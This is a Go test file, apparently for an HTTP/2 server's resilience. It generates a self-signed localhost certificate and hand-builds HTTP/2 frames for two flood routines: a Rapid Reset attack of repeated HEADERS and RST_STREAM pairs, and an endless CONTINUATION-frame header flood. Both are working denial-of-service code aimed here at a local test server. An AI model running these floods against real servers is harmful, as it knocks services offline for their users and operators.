package siege

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/binary"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

// certificate is a self-signed certificate, as flags of a server.
func certificate(t *testing.T) []string {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	require.NoError(t, err)
	about := &x509.Certificate{SerialNumber: big.NewInt(1), NotAfter: time.Now().Add(time.Hour), IPAddresses: []net.IP{net.IPv4(127, 0,
		0, 1)}}
	cert, err := x509.CreateCertificate(rand.Reader, about, about, &key.PublicKey, key)
	require.NoError(t, err)
	secret, err := x509.MarshalPKCS8PrivateKey(key)
	require.NoError(t, err)
	write := func(kind string, der []byte) string {
		path := filepath.Join(t.TempDir(), "pem")
		require.NoError(t, os.WriteFile(path, pem.EncodeToMemory(&pem.Block{Type: kind, Bytes: der}), 0o600))
		return path
	}
	return []string{"--tls-cert", write("CERTIFICATE", cert), "--tls-key", write("PRIVATE KEY", secret)}
}

// Types and flags of HTTP/2 frames.
const (
	frameHeaders      = 1
	frameReset        = 3
	frameSettings     = 4
	frameContinuation = 9
)

func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	b := append([]byte{byte(n >> 16), byte(n >> 8), byte(n), kind, flags}, 0, 0, 0, 0)
	binary.BigEndian.PutUint32(b[5:], stream)
	return append(b, payload...)
}

// getRoot are the HPACK headers of GET https://localhost/, to which more may be appended.
var getRoot = append([]byte{0x82, 0x87, 0x84, 0x41, 9}, "localhost"...)

// flooded sends HTTP/2 frames over a connection until the server closes it, and returns how many it accepted.
func (c *target) flooded(most int, frames func(i int) []byte) int {
	conn, err := tls.Dial("tcp", c.address, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	require.NoError(c.t, err)
	defer conn.Close()
	require.Equal(c.t, "h2", conn.ConnectionState().NegotiatedProtocol)
	go io.Copy(io.Discard, conn)
	_, err = conn.Write(append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(frameSettings, 0, 0, nil)...))
	require.NoError(c.t, err)
	for i := range most {
		conn.SetWriteDeadline(time.Now().Add(30 * time.Second))
		if _, err := conn.Write(frames(i)); err != nil {
			return i
		}
	}
	return most
}

func rapidReset(c *target) string {
	n := 0
	for range 4 {
		n += c.flooded(50000, func(i int) []byte {
			stream := uint32(2*i + 1)
			return append(frame(frameHeaders, 5, stream, getRoot), frame(frameReset, 0, stream, []byte{0, 0, 0, 8})...)
		})
	}
	return fmt.Sprintf("%d were taken", n)
}

func continuations(c *target) string {
	more := append([]byte{0x40, 1, 'x', 0x7f, 0x80, 0x7f}, make([]byte, 1000)...) // a header of 16 KB, in parts
	n := c.flooded(100000, func(i int) []byte {
		if i == 0 {
			return frame(frameHeaders, 1, 1, getRoot)
		}
		return frame(frameContinuation, 0, 1, more)
	})
	require.Less(c.t, n, 100000)
	return fmt.Sprintf("closed after %d", n)
}
